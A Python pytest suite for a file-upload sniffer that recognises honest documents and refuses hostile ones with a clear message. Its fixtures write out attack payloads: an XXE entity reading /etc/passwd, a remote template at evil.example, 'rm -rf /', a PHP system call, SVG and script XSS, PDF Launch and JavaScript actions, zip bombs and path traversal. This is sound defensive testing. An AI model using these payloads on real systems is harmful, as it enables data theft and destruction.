"""What a file is, and what is refused, each with one clear sentence."""

import contextlib
import io
import zipfile

import pytest
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from mangxanh.common.errors import BadInput
from mangxanh.files.kinds import LARGEST
from mangxanh.files.refusals import SENTENCES, refuse
from mangxanh.files.sniff import sniff
from mangxanh.files.tests import factories as make

MP4 = b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100
HONEST = {
    "photo.jpg": (lambda: make.saved(make.drawing()), "photo"),
    "photo of a phone that appends a film": (
        lambda: make.saved(make.drawing()) + MP4 + b"SEFT",
        "photo",
    ),
    "photo.png": (lambda: make.saved(make.drawing(), "PNG"), "photo"),
    "photo.webp": (lambda: make.saved(make.drawing(), "WEBP"), "photo"),
    "photo.heic": (make.heic, "photo"),
    "a.pdf": (make.pdf, "pdf"),
    "a.pdf that opens on a page": (lambda: make.pdf(catalog=b"/OpenAction [3 0 R /Fit]"), "pdf"),
    "a.pdf with white space before": (lambda: b"\r\n" + make.pdf(), "pdf"),
    "a.pdf with a stream that is not objects": (
        lambda: make.pdf(objects=b"<< /Length 9 >>\nstream\n/JS /Launch \nendstream"),
        "pdf",
    ),
    "a.docx": (make.word, "docx"),
    "a.docx named as a picture.jpg": (make.word, "docx"),
    "a.xlsx": (make.excel, "xlsx"),
    "a.pptx": (make.powerpoint, "pptx"),
    "a.odt": (make.open_document, "odt"),
    "a.ods": (lambda: make.open_document("spreadsheet"), "ods"),
    "a.txt": (lambda: "Kế hoạch năm học <3".encode(), "txt"),
    "a.txt in UTF-16": (lambda: "Kế hoạch".encode("utf-16"), "txt"),
    "a.txt with a mark before": (lambda: b"\xef\xbb\xbfabc", "txt"),
    "A.CSV": (lambda: "lớp,sĩ số\n6A1,40".encode(), "csv"),
    "a.mp4": (lambda: MP4, "mp4"),
    "a.mov": (lambda: MP4.replace(b"mp42", b"qt  "), "mp4"),
    "a.m4a": (lambda: MP4.replace(b"mp42", b"M4A "), "m4a"),
    "a.mp3": (lambda: b"ID3\x04" + b"\x00" * 100, "mp3"),
    "bare.mp3": (lambda: b"\xff\xfb\x90\x00" + b"\x00" * 100, "mp3"),
}


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_file_is_known_by_its_content(name):
    content, kind = HONEST[name]

    assert sniff(content(), name) == kind


def with_xml(declaration):
    return make.repacked(make.word(), {"word/document.xml": declaration})


def locked_zip():
    data = bytearray(make.word())
    position = 0
    while (position := data.find(b"PK\x01\x02", position)) >= 0:
        data[position + 8] |= 1
        position += 4
    return bytes(data)


def bomb():
    # 21 parts of 10 MB that pack to 10 kB each
    parts = {f"word/media/{n}.bmp": b"\x00" * 10_000_000 for n in range(21)}
    return make.repacked(make.word(), parts)


def lying_bomb():
    """The directory says that the part is small; the part is not."""
    data = make.repacked(make.word(), {"word/big.xml": b" " * 30_000_000})
    return data.replace((30_000_000).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def same_name_twice():
    out = io.BytesIO(make.word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/DOCUMENT.XML", "<x/>")
    return out.getvalue()


def macros_by_type():
    types = b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main'/></Types>"
    return make.repacked(make.word(), {"[Content_Types].xml": types})


def broken_part():
    data = bytearray(
        make.zipped({"word/document.xml": b"<w/>" * 50, "[Content_Types].xml": b"<T/>"})
    )
    data[60] ^= 0xFF
    return bytes(data)


def odd_packing():
    data = make.zipped({"word/document.xml": b"<w/>"})
    return data.replace(b"\x14\x00\x00\x00\x08\x00", b"\x14\x00\x00\x00\x63\x00")


ENTITY = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
TEMPLATE = (
    '<Relationships><Relationship Id="r" Type="http://x/attachedTemplate"'
    ' Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>'
)
JPEG = make.saved(make.drawing())
HOSTILE = {
    "nothing at all": (b"", "empty"),
    "more than 20 MB": (lambda: b"a" * (LARGEST + 1), "large"),
    "program for Windows": (b"MZ\x90\x00\x03" + b"\x00" * 200, "program"),
    "program for Linux": (b"\x7fELF\x02\x01\x01" + b"\x00" * 200, "program"),
    "script": (b"#!/bin/sh\nrm -rf /\n", "program"),
    "class of Java": (b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + b"\x01" * 50, "program"),
    "plain archive": (lambda: make.zipped({"a.txt": b"a"}), "archive"),
    "jar": (lambda: make.zipped({"META-INF/MANIFEST.MF": b"a"}), "archive"),
    "epub": (lambda: make.zipped({"mimetype": b"application/epub+zip"}), "archive"),
    "rar": (b"Rar!\x1a\x07\x00" + b"\x00" * 50, "archive"),
    "7z": (b"7z\xbc\xaf\x27\x1c" + b"\x00" * 50, "archive"),
    "gzip": (b"\x1f\x8b\x08\x00" + b"\x80" * 50, "archive"),
    "page": (b"<!DOCTYPE html><html><script>alert(1)</script>", "web page"),
    "page named text": (b"hello\n<script >alert(1)</script>", "web page"),
    "drawing with code": (b'<svg xmlns="x" onload="alert(1)"/>', "web page"),
    "drawing behind a declaration": (b'\xef\xbb\xbf<?xml version="1.0"?><svg/>', "web page"),
    "page in UTF-16": ("<html>".encode("utf-16"), "web page"),
    "RTF": (b"{\\rtf1 hello}", "unknown"),
    "bytes": (bytes(range(256)) * 4, "unknown"),
    "text with a zero": (b"abc\x00def", "unknown"),
    "old Word": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600, "old office"),
    "locked Word": (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        "locked",
    ),
    "locked archive": (locked_zip, "locked"),
    "macros": (lambda: make.repacked(make.word(), {"word/vbaProject.bin": b"x"}), "macros"),
    "macros by type alone": (macros_by_type, "macros"),
    "old macros of Excel": (
        lambda: make.repacked(make.excel(), {"xl/macrosheets/sheet1.xml": b"<x/>"}),
        "macros",
    ),
    "macros of OpenDocument": (
        lambda: make.open_document(**{"Basic/Standard/Module1.xml": "<x/>"}),
        "macros",
    ),
    "zip bomb": (bomb, "bomb"),
    "zip bomb that lies": (lying_bomb, "broken"),
    "ten thousand parts": (
        lambda: make.repacked(make.word(), {f"word/{n}.txt": b"" for n in range(5001)}),
        "bomb",
    ),
    "XXE": (lambda: with_xml(ENTITY), "outside"),
    "XXE in UTF-16": (
        lambda: with_xml(('<?xml version="1.0" encoding="UTF-16"?>' + ENTITY).encode("utf-16")),
        "outside",
    ),
    "XXE in a strange encoding": (
        lambda: with_xml('<?xml version="1.0" encoding="UTF-7"?><x/>'),
        "outside",
    ),
    "definition from outside": (
        lambda: with_xml('<!DOCTYPE x SYSTEM "http://x/a.dtd"><x/>'),
        "outside",
    ),
    "XXE in OpenDocument": (lambda: make.open_document(**{"content.xml": ENTITY}), "outside"),
    "entity in an old manifest": (
        lambda: make.open_document(**{"META-INF/manifest.xml": ENTITY}),
        "outside",
    ),
    "template from outside": (
        lambda: make.repacked(make.word(), {"word/_rels/settings.xml.rels": TEMPLATE}),
        "outside",
    ),
    "part that climbs out": (lambda: make.repacked(make.word(), {"../../x": b"x"}), "outside"),
    "half a Word file": (lambda: make.word()[:-400], "broken"),
    "Word file of rubbish": (lambda: with_xml(b"<w:document>"), "broken"),
    "Word file with a wrong checksum": (broken_part, "broken"),
    "Word file packed oddly": (odd_packing, "broken"),
    "part named twice": (same_name_twice, "broken"),
    "archive before Word": (lambda: make.zipped({"a": b"a"}) + make.word(), "two in one"),
    "something after Word": (lambda: make.word() + b"<html>", "two in one"),
    "picture and archive": (lambda: JPEG + make.zipped({"a": b"a"}), "two in one"),
    "picture and page": (JPEG + b"<html><script>x</script>", "two in one"),
    "picture and PHP": (JPEG + b"<?php system(1) ?>", "two in one"),
    "picture and PDF": (lambda: JPEG + make.pdf(), "two in one"),
    "picture and RAR": (JPEG + b"Rar!\x1a\x07\x00", "two in one"),
    "PDF and archive": (lambda: make.pdf() + make.zipped({"a": b"a"}), "two in one"),
    "film and archive": (lambda: MP4 + make.zipped({"a": b"a"}), "two in one"),
    "PDF with code": (
        lambda: make.pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
        "pdf runs",
    ),
    "PDF with code in other letters": (
        lambda: make.pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (x) >>"),
        "pdf runs",
    ),
    "PDF that starts a program": (
        lambda: make.pdf(catalog=b"/OpenAction << /S /Launch /F (cmd.exe) >>"),
        "pdf runs",
    ),
    "PDF with code in packed objects": (
        lambda: make.pdf(objects=make.packed_objects(b"9 0 << /S /JavaScript /JS (x) >>")),
        "pdf runs",
    ),
    "PDF with packed rubbish": (
        lambda: make.pdf(objects=b"<< /Type /ObjStm >>\nstream\nrubbish\nendstream"),
        "broken",
    ),
    "PDF bomb": (lambda: make.pdf(objects=make.packed_objects(b" " * 70_000_000)), "bomb"),
    "PDF with a file in it": (make.pdf_with_attachment, "pdf holds files"),
    "PDF whose packed objects are locked": (
        lambda: make.pdf(objects=b"<< /Type /ObjStm /Encrypt 9 0 R >>\nstream\nrubbish\nendstream"),
        "locked",
    ),
    "PDF without a page": (
        lambda: make.pdf().replace(b"[3 0 R] /Count 1", b"[     ] /Count 0"),
        "broken",
    ),
    "PDF that ends early": (lambda: b"%PDF-1.7\nrubbish", "broken"),
    "PDF with an endless stream": (b"%PDF-1.7\n<< >>\nstream\nrubbish", "broken"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_file_gets_one_clear_sentence(what):
    content, reason = HOSTILE[what]

    with pytest.raises(BadInput) as caught:
        sniff(content() if callable(content) else content, "plan.txt")

    assert caught.value.message == str(SENTENCES[reason])


def test_a_locked_pdf_is_told_to_lose_its_password():
    locked = (
        b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length 128 /P -3904"
        b" /O <" + b"00" * 32 + b"> /U <" + b"00" * 32 + b"> >> /ID [<00> <00>]"
    )
    data = make.pdf().replace(b"trailer << ", b"trailer << " + locked)

    with pytest.raises(BadInput, match=str(SENTENCES["locked"])):
        sniff(data)


@pytest.mark.parametrize(
    ("names", "reason"),
    [
        (b"/JavaScript << /Names [(a) 4 0 R] >>", "pdf runs"),
        (b"/EmbeddedFiles << /Names [(a) 4 0 R] >>", "pdf holds files"),
    ],
)
def test_what_hides_behind_a_stream_that_is_none_is_found_by_the_second_look(names, reason):
    data = make.pdf(
        catalog=b"/X (>> stream\n) /Names << " + names + b" >>",
        objects=b"<< /S /JavaScript /JS (x) /Type /Filespec /F (a) >>",
    )

    with pytest.raises(BadInput, match=str(SENTENCES[reason])):
        sniff(data)


@given(st.binary(max_size=300))
def test_whatever_comes_it_is_known_or_refused(data):
    for start in (b"", b"PK\x03\x04", b"%PDF-1.4\n", b"\xff\xd8\xff", b"{", b"<"):
        try:
            kind = sniff(start + data)
        except BadInput:
            continue
        assert kind in {"txt", "mp3", "photo", "mp4", "m4a"}


@given(st.integers(0, 3000), st.binary(min_size=1, max_size=4))
def test_a_word_file_with_a_few_wrong_bytes_never_crashes(place, wrong):
    data = make.word()
    place = place * len(data) // 3001

    with contextlib.suppress(BadInput):
        assert sniff(data[:place] + wrong + data[place + len(wrong) :])


@pytest.mark.parametrize("reason", SENTENCES)
def test_each_refusal_is_a_sentence(reason):
    with translation.override("en"):
        assert refuse(reason).message.endswith(".")
